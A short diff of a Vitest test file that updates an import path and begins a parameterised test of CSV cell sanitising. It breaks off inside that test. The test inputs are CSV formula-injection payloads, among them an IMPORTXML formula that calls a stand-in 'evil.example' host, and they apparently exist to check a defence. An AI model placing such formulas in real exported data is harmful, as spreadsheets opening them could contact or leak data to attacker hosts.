@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { csvLine, plainCell } from './order-rows.rules.ts';
+import { csvLine, plainCell } from './csv.ts';
 
 describe('a cell', () => {
   it.each(['=IMPORTXML("https://evil.example")', '+1', '-1', '@SUM(A1)', '\t=1', '  =1', '\r=1', '＝1'])(
